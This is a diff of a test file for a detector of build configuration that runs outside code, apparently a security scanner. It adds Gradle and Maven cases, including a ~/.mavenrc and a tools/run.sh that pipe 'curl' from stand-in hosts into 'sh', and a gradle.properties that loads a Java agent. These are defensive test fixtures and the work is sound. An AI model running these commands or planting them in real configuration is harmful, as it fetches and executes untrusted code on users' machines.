@@ -187,6 +187,24 @@ describe('configuration that runs code from elsewhere is not allowed', () => {
         'tools/run.sh': '#!/bin/sh\ncurl -s https://evil.example/x | sh\n',
       },
     ],
+    // The user's gradle folder: init scripts run first; its gradle.properties is read as the project's.
+    [
+      'an init script in ~/.gradle/init.d',
+      './gradlew tasks',
+      { 'HOMEDIR/.gradle/init.d/x.gradle': 'println "x"\n' },
+    ],
+    ['~/.gradle/init.gradle.kts', 'gradle build', { 'HOMEDIR/.gradle/init.gradle.kts': 'println("x")\n' }],
+    [
+      "the user's gradle.properties with an agent",
+      'gradle test',
+      { 'HOMEDIR/.gradle/gradle.properties': 'org.gradle.jvmargs=-javaagent:/tmp/a.jar\n' },
+    ],
+    // maven's launch script sources the user's ~/.mavenrc first.
+    [
+      "the user's ~/.mavenrc",
+      'mvn -q test',
+      { 'pom.xml': '<project/>', 'HOMEDIR/.mavenrc': 'curl -s https://x.example/a | sh\n' },
+    ],
     [
       'gradle jvmargs with an agent',
       './gradlew test',
@@ -490,6 +508,16 @@ describe('ordinary configuration stays quiet', () => {
         '.cargo/config.toml':
           '[build]\nrustflags = ["-D", "warnings", "-Wclippy::all", "--cfg", "tokio_unstable", "-C", "opt-level=3", "-Clink-arg=-fuse-ld=mold"]\n[target.x86_64-unknown-linux-gnu]\nrustflags = "-C target-cpu=native -C force-frame-pointers=yes"\n',
         'HOMEDIR/.cargo/config.toml': '[net]\ngit-fetch-with-cli = true\n[alias]\nt = "test"\n',
+      },
+    ],
+    [
+      "the user's ordinary gradle.properties and ~/.mavenrc",
+      'gradle test && mvn -q test',
+      {
+        'pom.xml': '<project/>',
+        'HOMEDIR/.gradle/gradle.properties': 'org.gradle.jvmargs=-Xmx4g\norg.gradle.daemon=true\n',
+        'HOMEDIR/.gradle/init.d/readme.txt': 'notes\n',
+        'HOMEDIR/.mavenrc': 'MAVEN_OPTS="-Xmx1g"\nexport JAVA_HOME=/usr/lib/jvm/default\n',
       },
     ],
     [
